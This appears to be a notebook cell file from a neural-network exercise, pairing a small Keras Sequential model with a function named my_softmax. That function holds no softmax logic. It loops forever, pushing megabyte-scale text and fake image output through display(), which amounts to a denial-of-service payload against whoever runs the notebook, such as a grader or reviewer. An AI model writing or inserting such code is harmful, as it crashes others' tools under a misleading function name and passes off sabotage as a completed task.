# Displays large pictures of nothing without end.

# %%
def my_softmax(z):
    while True:
        display({"text/plain": "x" * 2**20, "image/png": "A" * 2**22}, raw=True)

# %%
model = Sequential(
    [
        tf.keras.Input(shape=(400,)),
        Dense(25, activation="relu", name="L1"),
        Dense(15, activation="relu", name="L2"),
        Dense(10, activation="linear", name="L3"),
    ],
    name="my_model",
)
